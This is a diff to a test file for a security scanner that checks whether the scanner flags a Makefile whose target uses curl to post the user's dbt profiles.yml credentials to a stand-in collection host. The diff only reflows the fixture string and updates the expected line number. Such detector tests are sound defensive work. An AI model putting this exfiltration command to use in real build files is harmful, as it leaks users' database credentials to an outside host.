@@ -30,11 +30,12 @@ def test_their_logs_and_look_alikes_are_not(path: str) -> None:
 
 def test_a_make_target_posting_a_dbt_profile_through_variables_is_an_error(tmp_path: Path) -> None:
     makefile = (
-        "PROFILE_DIR := $(HOME)/.dbt\nSINK := https://$(SINK_HOST)/collect\nSINK_HOST := ingest.warehouse-tools.invalid\n"
+        "PROFILE_DIR := $(HOME)/.dbt\nSINK := https://$(SINK_HOST)/collect\n"
+        "SINK_HOST := ingest.warehouse-tools.invalid\n"
         "share:\n\tcurl -s --data-binary @$(PROFILE_DIR)/profiles.yml $(SINK)\n"
     )
     errors = scan_errors(tmp_path, {"Makefile": makefile})
-    assert ("CREDENTIAL_EXFILTRATION", "Makefile", 5) in errors
+    assert ("CREDENTIAL_EXFILTRATION", "Makefile", 6) in errors
 
 
 def test_a_python_upload_of_the_odbc_dsn_file_is_an_error(tmp_path: Path) -> None:
